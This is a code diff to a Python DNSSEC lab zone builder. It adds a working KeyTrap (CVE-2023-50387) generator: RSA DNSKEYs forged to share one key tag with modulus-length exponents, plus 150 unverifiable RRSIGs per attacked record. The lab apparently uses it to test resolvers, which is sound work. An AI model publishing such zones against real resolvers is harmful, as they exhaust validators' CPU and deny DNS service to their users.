@@ -3,12 +3,16 @@
 only the lab root key.
 
 Zones are built from the leaves up, so each parent gets its children's DS records: the right one for a
-secure zone, none for an insecure one, one of a key the child does not have for `bogus_ds`.
+secure zone, none for an insecure one, one of a key the child does not have for `bogus_ds`. A
+`bogus_keytrap` zone is signed normally and then given what KeyTrap (CVE-2023-50387) publishes
+(`keytrap`): dozens of RSA DNSKEYs that share one key tag, with exponents as long as their moduli, and on
+its hosts' address records only RRSIGs with that tag, which verify with none of them.
 """
 from __future__ import annotations
 
 import datetime
 import hashlib
+import os
 import time
 from pathlib import Path
 
@@ -18,6 +22,7 @@ import dns.rdata
 import dns.rdataclass
 import dns.rdatatype
 import dns.rdtypes.ANY.DNSKEY
+import dns.rdtypes.ANY.RRSIG
 import dns.rrset
 import dns.zone
 from cryptography.hazmat.primitives.asymmetric import ec
@@ -28,11 +33,76 @@ from lab.plan import PLAIN_RESOLVER_IPV4, PLAIN_RESOLVER_IPV6, LabPlan, ZonePlan
 TTL = 300
 ALGORITHM = dns.dnssec.Algorithm.ECDSAP256SHA256
 CAA_ISSUER = "labca.example"
+KEYTRAP_TAG = 31337      # the key tag every KeyTrap key and signature carries
+KEYTRAP_KEYS = 80        # RSA DNSKEYs with that tag
+KEYTRAP_SIGNATURES = 150  # RRSIGs with that tag on each attacked RRset
+KEYTRAP_BITS = 2048      # modulus and exponent length of those keys
 
 
 def _key():
     private = ec.generate_private_key(ec.SECP256R1())
     return private, dns.dnssec.make_dnskey(private.public_key(), ALGORITHM, flags=257)
+
+
+def colliding_rsa_keys(tag: int, count: int, bits: int = KEYTRAP_BITS, exponent: int | None = None) -> list:
+    """`count` RSA zone keys (RSASHA256) whose key tag is `tag`, each with the public `exponent` or, by
+    default, a random one as long as its modulus: a verification with such a key costs a full-size modular
+    exponentiation. The key tag is a checksum of the record (RFC 4034 appendix B), so two bytes of the
+    modulus are chosen to give `tag`. Nobody holds the private keys: nothing verifies with them."""
+    size = bits // 8
+    keys = []
+    while len(keys) < count:
+        exponent_bytes = (exponent.to_bytes((exponent.bit_length() + 7) // 8, "big") if exponent else
+                          bytes([0x80 | os.urandom(1)[0]]) + os.urandom(size - 2) + bytes([os.urandom(1)[0] | 1]))
+        modulus = bytearray(bytes([0x80 | os.urandom(1)[0]]) + os.urandom(size - 1))
+        modulus[-1] |= 1
+        length = len(exponent_bytes)  # RFC 3110: one byte, or a zero and two bytes above 255
+        prefix = bytes([length]) if length <= 255 else b"\0" + length.to_bytes(2, "big")
+        key = bytearray(prefix + exponent_bytes + modulus)
+        rdata_length = 4 + len(key)
+        at = rdata_length - 2 if rdata_length % 2 == 0 else rdata_length - 3  # a 16-bit word of the checksum
+        at -= 4  # ... as an offset in `key`, after flags, protocol and algorithm
+        key[at:at + 2] = b"\0\0"
+        candidate = _dnskey(bytes(key))
+        partial = sum(b << 8 if i % 2 == 0 else b for i, b in enumerate(candidate.to_wire()))
+        for word in ((tag - partial - (partial >> 16) + delta) & 0xFFFF for delta in (0, -1, 1)):
+            key[at:at + 2] = word.to_bytes(2, "big")
+            candidate = _dnskey(bytes(key))
+            if dns.dnssec.key_id(candidate) == tag:
+                keys.append(candidate)
+                break
+    return keys
+
+
+def _dnskey(key: bytes):
+    return dns.rdtypes.ANY.DNSKEY.DNSKEY(dns.rdataclass.IN, dns.rdatatype.DNSKEY, 256, 3,
+                                         dns.dnssec.Algorithm.RSASHA256, key)
+
+
+def keytrap(zone: dns.zone.Zone, signing_key: tuple, owners: list[dns.name.Name], inception, expiration) -> None:
+    """Make a signed zone a KeyTrap zone: KEYTRAP_KEYS colliding keys join its DNSKEY set, which is signed
+    again with `signing_key` (private key, DNSKEY) so that it still validates; the A and AAAA records of
+    `owners` lose their signatures and get KEYTRAP_SIGNATURES RRSIGs with the colliding tag instead."""
+    private, dnskey = signing_key
+    origin = zone.origin
+    with zone.writer() as txn:
+        keys = txn.get(origin, dns.rdatatype.DNSKEY)
+        ttl = keys.ttl
+        keyset = dns.rrset.from_rdata_list(origin, ttl, [*keys, *colliding_rsa_keys(KEYTRAP_TAG, KEYTRAP_KEYS)])
+        txn.replace(origin, keyset)
+        txn.replace(origin, dns.rrset.from_rdata(origin, ttl, dns.dnssec.sign(
+            keyset, private, origin, dnskey, inception=inception, expiration=expiration)))
+        for owner in owners:
+            for covered in (dns.rdatatype.A, dns.rdatatype.AAAA):
+                rdataset = txn.get(owner, covered)
+                if rdataset is None:
+                    continue
+                signatures = [dns.rdtypes.ANY.RRSIG.RRSIG(
+                    dns.rdataclass.IN, dns.rdatatype.RRSIG, covered, dns.dnssec.Algorithm.RSASHA256,
+                    len(owner) - 1, rdataset.ttl, int(dns.dnssec.to_timestamp(expiration)),
+                    int(dns.dnssec.to_timestamp(inception)), KEYTRAP_TAG, origin, os.urandom(KEYTRAP_BITS // 8))
+                    for _ in range(KEYTRAP_SIGNATURES)]
+                txn.replace(owner, dns.rrset.from_rdata_list(owner, rdataset.ttl, signatures))
 
 
 def _zone_file_name(zone: ZonePlan) -> str:
